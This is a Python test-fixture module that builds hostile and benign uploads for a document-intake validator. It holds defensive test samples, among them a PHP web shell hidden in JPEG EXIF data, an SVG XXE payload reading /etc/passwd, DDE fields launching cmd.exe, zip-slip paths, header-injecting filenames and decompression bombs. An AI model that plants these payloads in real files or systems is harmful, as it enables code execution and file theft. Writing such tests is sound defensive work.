"""Every hostile file by name, with the grounds on which it may be refused; and the honest ones."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from pikepdf import Dictionary, Name, String

from legislation.documents.intake.signatures import EICAR
from legislation.documents.intake.verdicts import Ground
from tests.hostile import archives as zips
from tests.hostile import pdfs

DOCX = "informe.docx"
PDF = "informe.pdf"
TEXT = "informe.txt"


@dataclass(frozen=True)
class Hostile:
    """A file, the name that it comes under, and why it may be refused."""

    title: str
    name: str
    make: Callable[[], bytes]
    grounds: frozenset[Ground]

    def __str__(self) -> str:
        return self.title


def hostile(title: str, name: str, make: Callable[[], bytes], *grounds: Ground) -> Hostile:
    return Hostile(title, name, make, frozenset(grounds))


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


JPEG_WITH_PHP = b"\xff\xd8\xff\xe1\x00\x40Exif\0\0<?php system($_GET['c']); ?>\xff\xd9"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><foreignObject/></svg>"
SVG_XXE = b"<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
GIF_AND_SCRIPT = b"GIF89a/*\x00\x00*/=1;alert(1);"
TURNED = "informe\u202efdp.exe"
LINE_BREAK = "informe.pdf\r\nContent-Type: text/html\r\n\r\n.exe"


def _pdf(title: str, make: Callable[[], bytes], *grounds: Ground) -> Hostile:
    return hostile(title, PDF, make, *grounds)


def _docx(title: str, make: Callable[[], bytes], *grounds: Ground) -> Hostile:
    return hostile(title, DOCX, make, *grounds)


def _external(kind: str, target: str) -> Callable[[], bytes]:
    return partial(zips.docx, links=(zips.relation(kind, target, external=True),))


def _inner(kind: str, target: str, content: bytes = b"x") -> Callable[[], bytes]:
    more = {f"word/{target}": content}
    return partial(zips.docx, links=(zips.relation(kind, target),), more=more)


SPEC = Dictionary(Type=Name.Filespec, F=String("otro.pdf"))
PDFS = (
    _pdf("PDF: /OpenAction with JavaScript", pdfs.javascript, Ground.ACTIVE),
    _pdf("PDF: JavaScript in the names", pdfs.javascript_by_name, Ground.ACTIVE),
    _pdf("PDF: JavaScript in an object stream", pdfs.javascript_in_a_stream, Ground.ACTIVE),
    _pdf("PDF: /J#61v#61Script", pdfs.javascript_escaped, Ground.ACTIVE),
    _pdf("PDF: JavaScript that nothing leads to", pdfs.javascript_unreached, Ground.ACTIVE),
    _pdf("PDF: JavaScript after a harmless action", pdfs.javascript_after_another, Ground.ACTIVE),
    _pdf("PDF: /AA of a page", pdfs.automatic_on_a_page, Ground.ACTIVE),
    _pdf("PDF: /Launch", partial(pdfs.of_action, "/Launch", F=String("cmd.exe")), Ground.ACTIVE),
    _pdf(
        "PDF: /SubmitForm",
        partial(pdfs.of_action, "/SubmitForm", F=String("http://x")),
        Ground.ACTIVE,
    ),
    _pdf(
        "PDF: /ImportData", partial(pdfs.of_action, "/ImportData", F=String("x.fdf")), Ground.ACTIVE
    ),
    _pdf(
        "PDF: /GoToR",
        partial(pdfs.of_action, "/GoToR", F=SPEC),
        Ground.ACTIVE,
        Ground.CARRIES_FILES,
    ),
    _pdf(
        "PDF: /GoToE",
        partial(pdfs.of_action, "/GoToE", F=SPEC),
        Ground.ACTIVE,
        Ground.CARRIES_FILES,
    ),
    _pdf("PDF: an action that nobody knows", partial(pdfs.of_action, "/Nueva"), Ground.ACTIVE),
    _pdf("PDF: /Named /Print", partial(pdfs.of_action, "/Named", N=Name.Print), Ground.ACTIVE),
    _pdf(
        "PDF: /RichMedia", partial(pdfs.made, pdfs.annotated(Subtype=Name.RichMedia)), Ground.ACTIVE
    ),
    _pdf("PDF: /Movie", partial(pdfs.made, pdfs.annotated(Subtype=Name.Movie)), Ground.ACTIVE),
    _pdf("PDF: /EmbeddedFiles", pdfs.embedding, Ground.CARRIES_FILES),
    _pdf("PDF: /FileAttachment", pdfs.embedding_in_an_annotation, Ground.CARRIES_FILES),
    _pdf("PDF: /XFA", pdfs.form_in_xml, Ground.ACTIVE),
    _pdf(
        "PDF: link to file:", partial(pdfs.linked, "file:///c:/windows/a.exe"), Ground.REACHES_OUT
    ),
    _pdf(
        "PDF: link to javascript:",
        partial(pdfs.linked, "java\tscript:alert(1)"),
        Ground.REACHES_OUT,
    ),
    _pdf("PDF: link to a share", partial(pdfs.linked, r"\\servidor\x"), Ground.REACHES_OUT),
    _pdf("PDF: data in another file", pdfs.reading_another_file, Ground.REACHES_OUT),
    _pdf("PDF: password to open", partial(pdfs.locked, "abrir"), Ground.ENCRYPTED),
    _pdf("PDF: password to change", pdfs.locked, Ground.ENCRYPTED),
    _pdf("PDF: 10 000 pages", partial(pdfs.made, pages=10_000), Ground.TOO_MANY_PAGES),
    _pdf("PDF: truncated by half", lambda: pdfs.made()[: len(pdfs.made()) // 2], Ground.BROKEN),
    _pdf(
        "PDF: truncated, its end put back", lambda: pdfs.made()[:300] + b"\n%%EOF\n", Ground.BROKEN
    ),
    _pdf("PDF: packed twice", pdfs.packed_twice, Ground.INFLATES),
    _pdf("PDF: a gigabyte in one stream", pdfs.inflating, Ground.INFLATES),
    _pdf("PDF: 50 000 × 50 000 pixels", pdfs.flood_of_pixels, Ground.INFLATES),
    _pdf("PDF: 20 000 arrays deep", pdfs.deep, Ground.BROKEN, Ground.TOO_HEAVY),
    _pdf("PDF: pages in a circle", pdfs.pages_in_a_circle, Ground.BROKEN, Ground.TOO_HEAVY),
    _pdf(
        "PDF: header and noise",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"\n%%EOF\n",
        Ground.BROKEN,
    ),
)
WORDS = (
    _docx("DOCX: 300 MB in one entry", zips.bomb_of_one_entry, Ground.INFLATES),
    _docx(
        "DOCX: 300 MB that lies about it",
        zips.bomb_that_lies,
        Ground.BROKEN,
        Ground.INFLATES,
        Ground.TWO_KINDS,
    ),
    _docx("DOCX: 100 000 entries", zips.many_entries, Ground.INFLATES),
    _docx("DOCX: overlapping entries", zips.overlapping, Ground.TWO_KINDS, Ground.BROKEN),
    _docx("DOCX: entry ../", partial(zips.with_entry, "../../etc/cron.d/a"), Ground.REACHES_OUT),
    _docx("DOCX: absolute entry", partial(zips.with_entry, "/etc/passwd"), Ground.REACHES_OUT),
    _docx("DOCX: entry with C:\\", partial(zips.with_entry, "C:\\a.xml"), Ground.REACHES_OUT),
    _docx("DOCX: symlink entry", zips.with_symlink, Ground.REACHES_OUT),
    _docx(
        "DOCX: archive inside",
        partial(zips.with_entry, "word/a.bin", zips.nested(1)),
        Ground.CARRIES_FILES,
    ),
    _docx(
        "DOCX: program inside",
        partial(zips.with_entry, "word/a.exe", b"MZ\x90"),
        Ground.CARRIES_FILES,
    ),
    _docx("DOCX: macros by type", partial(zips.docx, main=zips.MACROS), Ground.ACTIVE),
    _docx(
        "DOCX: vbaProject",
        _inner("vbaProject", "vbaProject.bin"),
        Ground.ACTIVE,
        Ground.CARRIES_FILES,
    ),
    _docx("DOCX: OLE object", _inner("oleObject", "embeddings/a.bin"), Ground.CARRIES_FILES),
    _docx(
        "DOCX: ActiveX control", _inner("control", "activeX/a.xml", b"<a/>"), Ground.CARRIES_FILES
    ),
    _docx("DOCX: altChunk", _inner("aFChunk", "a.html", HTML), Ground.CARRIES_FILES),
    _docx(
        "DOCX: template elsewhere",
        lambda: zips.docx(
            settings=zips.relations(
                zips.relation("attachedTemplate", "http://x.example/a.dotm", external=True)
            )
        ),
        Ground.REACHES_OUT,
    ),
    _docx(
        "DOCX: picture elsewhere", _external("image", "http://x.example/a.png"), Ground.REACHES_OUT
    ),
    _docx("DOCX: frame elsewhere", _external("frame", "http://x.example/"), Ground.REACHES_OUT),
    _docx("DOCX: link to a share", _external("hyperlink", r"\\servidor\x"), Ground.REACHES_OUT),
    _docx("DOCX: link to ms-msdt:", _external("hyperlink", "ms-msdt:/id"), Ground.REACHES_OUT),
    _docx(
        "DOCX: DDE", lambda: zips.docx(zips.field(' DDEAUTO c:\\\\cmd.exe "/k" ')), Ground.ACTIVE
    ),
    _docx(
        "DOCX: DDE in pieces",
        lambda: zips.docx(zips.field(" D", "DEAU", "TO c:\\\\cmd ")),
        Ground.ACTIVE,
    ),
    _docx("DOCX: DDE put together", lambda: zips.docx(zips.field_within_field()), Ground.ACTIVE),
    _docx("DOCX: DDE by QUOTE", lambda: zips.docx(zips.field(" QUOTE 68 68 69 ")), Ground.ACTIVE),
    _docx(
        "DOCX: INCLUDETEXT", lambda: zips.docx(zips.field(' INCLUDETEXT "c:\\\\a" ')), Ground.ACTIVE
    ),
    _docx("DOCX: entities without end", lambda: zips.docx(document=zips.entities()), Ground.ACTIVE),
    _docx("DOCX: outside entity", lambda: zips.docx(document=zips.outside_entity()), Ground.ACTIVE),
    _docx("DOCX: 10 000 elements deep", lambda: zips.docx(document=zips.deep()), Ground.INFLATES),
    _docx("DOCX: main part elsewhere", zips.main_elsewhere, Ground.UNKNOWN_KIND),
    _docx(
        "DOCX: picture of 50 000 × 50 000",
        partial(zips.with_entry, "word/media/a.png", png(50_000, 50_000)),
        Ground.INFLATES,
    ),
    _docx(
        "DOCX: SVG with a script",
        partial(zips.with_entry, "word/media/a.svg", SVG),
        Ground.CARRIES_FILES,
    ),
    _docx(
        "DOCX: EICAR inside",
        lambda: zips.docx(more={"word/media/a.png": EICAR}),
        Ground.VIRUS,
        Ground.CARRIES_FILES,
    ),
    _docx("DOCX: truncated", lambda: zips.docx()[:-40], Ground.BROKEN),
    _docx(
        "XLSX with DDE, called DOCX",
        lambda: zips.spreadsheet("=cmd|'/c calc'!A1"),
        Ground.UNKNOWN_KIND,
    ),
    _docx("zip of zips of zips", zips.nested, Ground.UNKNOWN_KIND),
)
ODD = (
    hostile("EICAR as text", TEXT, lambda: EICAR, Ground.VIRUS),
    hostile("EICAR after a text", TEXT, lambda: b"Hola.\n" + EICAR, Ground.VIRUS),
    hostile("0 bytes", PDF, lambda: b"", Ground.EMPTY),
    hostile("HTML called PDF", PDF, lambda: HTML, Ground.UNKNOWN_KIND),
    hostile("HTML called text", TEXT, lambda: HTML, Ground.UNKNOWN_KIND),
    hostile("PDF called text", TEXT, pdfs.made, Ground.NOT_AS_NAMED),
    hostile("DOCX called PDF", PDF, zips.docx, Ground.NOT_AS_NAMED),
    hostile(
        "PDF and ZIP at once",
        PDF,
        lambda: pdfs.made() + zips.docx(),
        Ground.TWO_KINDS,
        Ground.BROKEN,
    ),
    hostile(
        "PDF and ZIP that ends as PDF",
        PDF,
        lambda: pdfs.made() + zips.zipped({"a": b"x"})[:-2] + b"\x06\0\n%%EOF",
        Ground.TWO_KINDS,
    ),
    hostile("PDF with HTML behind", PDF, lambda: pdfs.made() + HTML, Ground.TWO_KINDS),
    hostile("PDF not at the first byte", PDF, lambda: b"GIF89a" + pdfs.made(), Ground.TWO_KINDS),
    hostile(
        "DOCX that is a PDF too", DOCX, lambda: zips.zipped({"a": pdfs.made()}, 0), Ground.TWO_KINDS
    ),
    hostile(
        "DOCX with bytes before",
        DOCX,
        lambda: b"PK\x03\x04" + bytes(60) + zips.docx(),
        Ground.TWO_KINDS,
    ),
    hostile(
        "DOCX with bytes behind",
        DOCX,
        lambda: zips.docx() + b"<script>",
        Ground.BROKEN,
        Ground.TWO_KINDS,
    ),
    hostile("PNG of 50 000 × 50 000", "a.png", lambda: png(50_000, 50_000), Ground.UNKNOWN_KIND),
    hostile("the same, called PDF", PDF, lambda: png(50_000, 50_000), Ground.UNKNOWN_KIND),
    hostile("GIF that is a script", TEXT, lambda: GIF_AND_SCRIPT, Ground.UNKNOWN_KIND),
    hostile("JPEG with PHP in its EXIF", PDF, lambda: JPEG_WITH_PHP, Ground.UNKNOWN_KIND),
    hostile("SVG with a script, called text", TEXT, lambda: SVG, Ground.UNKNOWN_KIND),
    hostile("SVG with an outside entity", TEXT, lambda: SVG_XXE, Ground.UNKNOWN_KIND),
    hostile("tar with ../", PDF, zips.slipping_tar, Ground.UNKNOWN_KIND),
    hostile(
        "text that turns its order", TEXT, lambda: "No \u202eodot a".encode(), Ground.NOT_PLAIN
    ),
    hostile("text with zero bytes", TEXT, lambda: b"a\0b", Ground.NOT_PLAIN),
    hostile("text in Latin-1", TEXT, lambda: "Artículo".encode("latin-1"), Ground.NOT_PLAIN),
    hostile("name that reads backwards", TURNED, pdfs.made, Ground.UNKNOWN_KIND),
    hostile("name with a line break", LINE_BREAK, pdfs.made, Ground.UNKNOWN_KIND),
    hostile("name without an ending", "informe", pdfs.made, Ground.UNNAMED),
    hostile("name of controls alone", "\u202e\r\n\x00.pdf", pdfs.made, Ground.UNNAMED),
)
UPLOADS = (*PDFS, *WORDS, *ODD)


@dataclass(frozen=True)
class Honest:
    """A file that is taken in, and the name that it is given."""

    title: str
    name: str
    make: Callable[[], bytes]
    called: str

    def __str__(self) -> str:
        return self.title


def _toc() -> bytes:
    fields = (' TOC \\o "1-3" ', " PAGE ", ' HYPERLINK "https://www.bcn.cl/x" ', " REF a \\h ")
    links = (
        zips.relation("hyperlink", "https://www.senado.example/?a=1&b=2", external=True),
        zips.relation("image", "media/a.png", key="rId3"),
    )
    inside = "".join(zips.field(one) for one in fields)
    return zips.docx(inside, links=links, more={"word/media/a.png": png(10, 10)})


HONEST = (
    Honest("PDF", PDF, pdfs.made, PDF),
    Honest("PDF with object streams", PDF, partial(pdfs.made, linearize=True), PDF),
    Honest("PDF with a link to the web", PDF, partial(pdfs.linked, "https://www.bcn.cl"), PDF),
    Honest(
        "PDF that opens on its first page",
        PDF,
        partial(pdfs.of_action, "/GoTo", D=String("a")),
        PDF,
    ),
    Honest("PDF of 2 000 pages", PDF, partial(pdfs.made, pages=2_000), PDF),
    Honest("DOCX", DOCX, zips.docx, DOCX),
    Honest("DOCX with contents, links and a picture", DOCX, _toc, DOCX),
    Honest("text", TEXT, lambda: "Artículo único.- Ñandú.\r\n".encode(), TEXT),
    Honest("text with a byte order mark", TEXT, lambda: "\ufeffArtículo 1.-".encode(), TEXT),
    Honest(
        "name with folders",
        "..\\..\\Mis Papeles/Informe  final.PDF",
        pdfs.made,
        "Informe final.pdf",
    ),
    Honest("name of 300 letters", f"{'a' * 300}.pdf", pdfs.made, f"{'a' * 196}.pdf"),
    Honest(
        "name with a line break",
        "informe\r\nSet-Cookie: a.pdf",
        pdfs.made,
        "informe Set-Cookie_ a.pdf",
    ),
    Honest("name of a device", "con.pdf", pdfs.made, "_con.pdf"),
)
